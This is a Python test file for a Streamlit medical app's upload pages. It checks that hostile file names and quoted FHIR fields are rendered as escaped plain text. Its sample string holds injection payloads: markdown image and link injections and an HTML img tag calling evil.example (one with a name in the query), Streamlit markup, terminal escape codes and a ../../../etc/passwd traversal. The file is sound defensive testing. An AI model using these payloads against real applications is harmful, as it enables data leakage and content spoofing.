"""Hostile upload file names (issue 14: "untrusted text is shown as text: ... file names"). A browser sends whatever
name the file has: markdown (an image would be fetched by the browser), HTML, Streamlit's own colour / icon / LaTeX
syntax, control characters, path traversal, a very long name. Each page that echoes a name must show it as typed.

"As typed" is checked on what a markdown renderer makes of the message (markdown-it, CommonMark as Streamlit's
frontend reads it): one paragraph, no image, link, emphasis or HTML tag, and the name's characters all there. Streamlit's
extensions (:red[..], :material/..:, $..$) and GFM's bare-URL links are not CommonMark, so their triggers must not
appear unescaped either. One test per page family: record summarizer, literature reader, image import, planner."""

from __future__ import annotations

import html
import io
import json
import re
import zipfile

from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from tests.conftest import REPO

_CORE = ("![x](http://evil.example/i.png?n=Jane) [click](http://evil.example/c) **loud** _em_ `code` "
         "<img src=http://evil.example/h.png> :red[red] :material/lock: $x^2$ \x1b[31m\x07\t~~gone~~ "
         "../../../etc/passwd ")


def hostile(suffix: str) -> str:
    return _CORE + "long" * 60 + suffix


def assert_shown_as_text(source: str, literal: str) -> None:
    """`source` is a message's markdown as Streamlit receives it; `literal` must come out of it as typed."""
    rendered = MarkdownIt("commonmark").enable("strikethrough").render(source)
    tags = set(re.findall(r"</?([a-zA-Z][a-zA-Z0-9]*)", rendered))
    assert tags <= {"p"}, (tags, rendered)
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert literal in text, (literal, text)
    for trigger in (r"(?<!\\):[a-z]+\[", r"(?<!\\):material/", r"(?<!\\)\$", r"https?://"):
        assert not re.search(trigger, source), (trigger, source)


def _messages(at) -> list[str]:
    out = []
    for kind in ("error", "warning", "info", "success", "markdown", "caption"):
        out += [str(e.value) for e in getattr(at, kind)]
    return out


def _showing(at, part: str) -> list[str]:
    """The messages that quote the file name (markdown-escaped or not)."""
    return [m for m in _messages(at) if part in m.replace("\\", "")]


def test_record_summarizer_shows_an_upload_name_as_text(settings, store):
    name = hostile(".txt")
    at = AppTest.from_file(str(REPO / "pages" / "record_summarizer.py"), default_timeout=120).run()
    at.file_uploader[0].set_value((name, b"", "text/plain")).run()  # an empty file: refused, quoting its name
    next(b for b in at.button if b.label == "Summarize uploaded file").click().run()
    assert not at.exception, at.exception
    quoting = _showing(at, "evil")
    assert quoting and any("is empty" in m for m in quoting), _messages(at)
    for m in quoting:
        assert_shown_as_text(m, name)


def test_record_summarizer_shows_text_quoted_from_an_upload_as_text(settings, store):
    """A FHIR DocumentReference's warnings quote the file's own fields (an attachment's URL and type)."""
    import base64

    doc = {"resourceType": "DocumentReference", "status": "current", "content": [
        {"attachment": {"contentType": "text/plain",
                        "data": base64.b64encode(b"HPI: cough for three days. Plan: rest and fluids.").decode()}},
        {"attachment": {"url": _CORE.strip()}},
        {"attachment": {"contentType": "image/" + _CORE.strip().replace(";", ","), "data": "aGVsbG8="}}]}
    at = AppTest.from_file(str(REPO / "pages" / "record_summarizer.py"), default_timeout=120).run()
    at.file_uploader[0].set_value((hostile(".json"), json.dumps(doc).encode(), "application/json")).run()
    next(b for b in at.button if b.label == "Summarize uploaded file").click().run()
    assert not at.exception, at.exception
    quoting = _showing(at, "evil")
    assert len([m for m in quoting if "An attachment" in m]) == 2, _messages(at)
    for m in quoting:
        assert_shown_as_text(m, "[click](http://evil.example/c) **loud** _em_")


def _literature_upload():
    """The page's upload path with a name the uploader itself would refuse (Streamlit only lets through the page's
    types, none of which the reader's messages quote): what read_and_save shows for a name it does quote."""
    import streamlit as st

    from ui.literature_input import read_and_save
    from ui.loaders import get_settings, get_store

    name, data = st.session_state["upload"]
    st.write(f"ids: {read_and_save(get_settings(), get_store(), data, name)}")


def test_literature_reader_shows_an_upload_name_as_text(settings, store):
    junk = b"\x00\x01\x02\x03 binary \xff\xfe\xfd" * 20
    # the page: a junk "PDF" with a hostile name is refused, and nothing on screen quotes the name unescaped
    name = hostile(".pdf")
    at = AppTest.from_file(str(REPO / "pages" / "literature_reader.py"), default_timeout=120).run()
    at.file_uploader[0].set_value((name, junk, "application/pdf")).run()
    next(b for b in at.button if b.label == "Read uploaded file").click().run()
    assert not at.exception, at.exception
    assert at.error, _messages(at)
    for m in _showing(at, "evil"):
        assert_shown_as_text(m, name)
    # the reader's one message that quotes a name, through the page's own display code
    name = hostile(".bin")
    at = AppTest.from_function(_literature_upload, default_timeout=60)
    at.session_state["upload"] = (name, b"\x01\x02\x03\x04 control characters, valid UTF-8 " * 20)
    at.run()
    assert not at.exception, at.exception
    quoting = _showing(at, "evil")
    assert quoting and any("not a format the reader knows" in m for m in quoting), _messages(at)
    for m in quoting:
        assert_shown_as_text(m, name)


def test_image_import_shows_an_archive_name_as_text(settings, store):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "no images in here")
    name = hostile(".zip")
    at = AppTest.from_file(str(REPO / "pages" / "image_generator.py"), default_timeout=120).run()
    at.file_uploader(key="ds-upload").set_value((name, buf.getvalue(), "application/zip")).run()
    next(b for b in at.button if b.label == "Import").click().run()
    assert not at.exception, at.exception
    quoting = _showing(at, "evil")
    assert quoting and any("no usable images" in m for m in quoting), _messages(at)
    for m in quoting:
        assert_shown_as_text(m, name)


def _bundle(drug: str) -> bytes:
    """A FHIR bundle whose stopped medicine (no end date) the planner's import notes quote by name."""
    from medcore.therapy.fhir_io import example_bundle

    bundle = example_bundle()
    for entry in bundle["entry"]:
        r = entry["resource"]
        if r["resourceType"] == "MedicationStatement" and r["status"] == "stopped":
            r["medicationCodeableConcept"] = {"text": drug}
    return json.dumps(bundle).encode()


def test_planner_fhir_import_shows_names_from_the_upload_as_text(settings, store):
    """The planner does not echo the file's name (a hostile one changes nothing), but its import notes quote the
    medicine names inside the file: those are the upload's untrusted text here."""
    drug = _CORE.strip()
    at = AppTest.from_file(str(REPO / "pages" / "treatment_planner.py"), default_timeout=120).run()
    up = next(u for u in at.file_uploader if "FHIR R4 Bundle" in u.label)
    up.set_value((hostile(".json"), _bundle(drug), "application/json")).run()
    next(b for b in at.button if b.label == "Import bundle").click().run()
    assert not at.exception, at.exception
    quoting = _showing(at, "evil")
    assert quoting and any("without an end date" in m for m in quoting), _messages(at)
    for m in quoting:
        assert_shown_as_text(m, drug)
    assert not _showing(at, "long" * 60)  # the file's name is not shown at all

    # a refused file: the message quotes neither the name nor anything unescaped
    at = AppTest.from_file(str(REPO / "pages" / "treatment_planner.py"), default_timeout=120).run()
    up = next(u for u in at.file_uploader if "FHIR R4 Bundle" in u.label)
    up.set_value((hostile(".json"), b'{"resourceType": "Bundle", "entry": "' + _CORE.encode() + b'"}',
                  "application/json")).run()
    next(b for b in at.button if b.label == "Import bundle").click().run()
    assert not at.exception, at.exception
    refused = [e.value for e in at.error]
    assert refused and refused[0].startswith("Could not import")
    for m in _showing(at, "evil"):
        assert_shown_as_text(m, drug.split(" ../")[0][:20])
